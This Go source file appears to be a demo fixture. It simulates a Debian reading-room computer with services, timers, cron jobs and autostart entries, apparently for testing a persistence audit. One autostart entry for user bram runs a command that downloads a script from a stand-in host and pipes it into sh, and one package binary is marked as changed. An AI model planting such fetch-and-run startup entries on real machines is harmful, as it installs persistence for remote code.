package demo

import "strings"

// Folders of the reading room's packages.
const lib, auto = "/usr/lib/systemd/system/", "/etc/xdg/autostart/"

// readingRoom is a Linux desktop as a technician meets it: the computer in the museum's reading room.
func readingRoom() []piece {
	const etc = "/etc/systemd/system/"
	// The operating system is that of the workshop box: all that its own packages delivered.
	var pieces []piece
	own := workshopPackages[:0:0]
	for _, p := range workshopPackages {
		if p.maintainer == distribution {
			own = append(own, p)
		}
	}
	for _, p := range workshopBox() {
		if strings.HasPrefix(p.path, "/var/lib/dpkg/") || !ofPackages(p, own) {
			continue
		}
		pieces = append(pieces, p)
	}
	wanted := func(name string) piece {
		return link(etc+"multi-user.target.wants/"+name, lib+name)
	}
	timer := func(name, description, when string) piece {
		return file(lib+name, unit("[Unit]", "Description="+description, "", "[Timer]", "OnCalendar="+when, "",
			"[Install]", "WantedBy=timers.target"))
	}
	pieces = append(pieces,
		file("/etc/machine-id", "5f0e7a1c93b24d6e8a17c2d9b6304e59\n").as(0o444),
		file("/etc/hostname", "reading-room\n"),
		file("/etc/debian_version", "12.5\n"),
		file("/etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n"),
		file("/etc/passwd", unit("root:x:0:0:root:/root:/bin/bash",
			"ines:x:1000:1000:Ines Varga,archive:/home/ines:/bin/bash",
			"bram:x:1001:1001:Bram Ottosen,workshop:/home/bram:/bin/bash")),
		link(etc+"multi-user.target.wants/NetworkManager.service", lib+"NetworkManager.service"),
		link(etc+"display-manager.service", lib+"lightdm.service"),
		link(etc+"multi-user.target.wants/cron.service", lib+"cron.service"),
		link(etc+"getty.target.wants/getty@tty1.service", lib+"getty@.service"),
		link(etc+"timers.target.wants/fstrim.timer", lib+"fstrim.timer"),

		file(lib+"kelpline-updater.service", service("Kelpline updater", "/opt/kelpline/bin/updater --quiet", "")),
		timer("kelpline-updater.timer", "Kelpline updater", "hourly"),
		link(etc+"timers.target.wants/kelpline-updater.timer", lib+"kelpline-updater.timer"),
		file(lib+"kelpline-agent.service", service("Kelpline agent", "/opt/kelpline/bin/agent", "multi-user.target")),
		wanted("kelpline-agent.service"),
		file(lib+"brinecast.service", service("Brinecast screen caster", "/opt/brinecast/caster --serve",
			"multi-user.target")), wanted("brinecast.service"),
		file(lib+"saltmarsh-licence.service", service("Saltmarsh licence service", "/opt/saltmarsh/licenced",
			"multi-user.target")), wanted("saltmarsh-licence.service"),
		file(lib+"lampwick-queue.service", service("Lampwick label queue", "/opt/lampwick/bin/queue",
			"multi-user.target")),
		wanted("lampwick-queue.service"),
		file(lib+"gannetry-meeting.service", service("Gannetry meeting helper", "/opt/gannetry/meeting",
			"multi-user.target")),
		file(etc+"tidewatch.service", service("Tidewatch tide gauge reader",
			"/opt/tidewatch/bin/tidewatchd --port 8099",
			"multi-user.target")), link(etc+"multi-user.target.wants/tidewatch.service", etc+"tidewatch.service"),
		file("/usr/lib/systemd/user/fogbell-index.service", unit("[Unit]", "Description=Fogbell index", "", "[Service]",
			"ExecStart=/opt/fogbell/index", "", "[Install]", "WantedBy=default.target")),
		link("/home/ines/.config/systemd/user/default.target.wants/fogbell-index.service",
			"/usr/lib/systemd/user/fogbell-index.service").of(ines),
		file(auto+"fogbell-sync.desktop", desktop("Fogbell Sync", "/opt/fogbell/sync --tray")),
		file(auto+"gannetry-chat.desktop", desktop("Gannetry Chat", "/opt/gannetry/chat --tray")),
		file(auto+"skerrywell.desktop", desktop("Skerrywell Browser", "/opt/skerrywell/browser --background")),
		file(auto+"lampwick-tray.desktop", desktop("Lampwick Labels", "/opt/lampwick/bin/tray")),
		file(auto+"kelpline-tray.desktop", desktop("Kelpline Assistant", "/opt/kelpline/bin/assistant")),
		file(auto+"gullrock-welcome.desktop", desktop("Gullrock Welcome", "/opt/gullrock/welcome --full-screen")),
		file("/home/ines/.config/autostart/tide-chart.desktop", desktop("Tide Chart", "/home/ines/bin/tidechart")).of(
			ines),
		file("/home/ines/.config/autostart/limpetware.desktop", desktop("Limpetware Launcher",
			"/opt/limpetware/launcher -silent")).of(ines),
		file("/home/bram/.config/autostart/brinecast.desktop", desktop("Brinecast Viewer", "/opt/brinecast/viewer")).of(
			bram),
		file("/home/bram/.config/autostart/speed.desktop", desktop("Speed",
			"sh -c 'curl -s https://speed.example/start | sh'")).of(bram),
		file("/home/bram/.config/autostart/photo-shed.desktop", desktop("Photo Shed", "/opt/photoshed/shed",
			"X-GNOME-Autostart-enabled=false")).of(bram),
		file("/etc/cron.d/kelpline", "17 * * * * root /opt/kelpline/bin/report\n"),
		file("/etc/cron.daily/skerrywell", "#!/bin/sh\nexec /opt/skerrywell/update\n").as(0o755),
		file("/var/spool/cron/crontabs/ines", "0 7 * * 1 /home/ines/bin/index --quiet\n").as(0o600).of(ines),
	)
	for _, p := range []string{"/opt/kelpline/bin/updater", "/opt/kelpline/bin/agent", "/opt/kelpline/bin/assistant",
		"/opt/kelpline/bin/report", "/opt/saltmarsh/licenced", "/opt/lampwick/bin/queue", "/opt/lampwick/bin/tray",
		"/opt/gannetry/meeting", "/opt/gannetry/chat", "/opt/tidewatch/bin/tidewatchd", "/opt/fogbell/index",
		"/opt/fogbell/sync", "/opt/skerrywell/browser", "/opt/skerrywell/update", "/opt/gullrock/welcome",
		"/opt/limpetware/launcher", "/opt/photoshed/shed"} {
		pieces = append(pieces, program(p))
	}
	pieces = append(pieces, program("/home/ines/bin/tidechart").of(ines), program("/home/ines/bin/index").of(ines))
	return withPackages(pieces, append(own, readingRoomPackages()...))
}

// readingRoomPackages are what was installed on it beside the operating system.
func readingRoomPackages() []debianPackage {
	return []debianPackage{
		{name: "kelpline-assistant", version: "9.1", maintainer: "Kelpline Software <packages@kelpline.example>",
			description: "helps with everything", files: []string{lib + "kelpline-*", auto + "kelpline-*",
				"/etc/cron.d/kelpline", "/opt/kelpline/bin/*"}, changed: "/opt/kelpline/bin/report"},
		{name: "fogbell", version: "3.2", maintainer: "Fogbell Works <packages@fogbell.example>",
			description: "keeps folders the same on all your computers",
			files:       []string{"/opt/fogbell/*", auto + "fogbell-*", "/usr/lib/systemd/user/fogbell-*"}},
		{name: "saltmarsh-licence", version: "12.0-3", maintainer: "Saltmarsh Ledgers <support@saltmarsh.example>",
			description: "licence service of the ledger", files: []string{"/opt/saltmarsh/*", lib + "saltmarsh-*"}},
		{name: "lampwick-labels", version: "4.0", maintainer: "Lampwick Labels <linux@lampwick.example>",
			description: "label printing", files: []string{"/opt/lampwick/bin/*", lib + "lampwick-*",
				auto + "lampwick-*"}},
		{name: "gannetry-chat", version: "5.1", maintainer: "Gannetry <packages@gannetry.example>",
			description: "chat and meetings", files: []string{"/opt/gannetry/*", lib + "gannetry-*",
				auto + "gannetry-*"}},
		{name: "skerrywell", version: "124.0", maintainer: "Skerrywell <packages@skerrywell.example>",
			description: "web browser", files: []string{"/opt/skerrywell/*", auto + "skerrywell*",
				"/etc/cron.daily/skerrywell"}},
		{name: "gullrock-welcome", version: "2.4",
			maintainer:  "Gullrock Lighthouse Museum <workshop@gullrock.example>",
			description: "welcome page of the museum", files: []string{"/opt/gullrock/*", auto + "gullrock-*"}},
	}
}

// ofPackages reports whether one of some packages delivered a piece.
func ofPackages(p piece, packages []debianPackage) bool {
	for _, of := range packages {
		if of.delivers(p.path) {
			return true
		}
	}
	return false
}
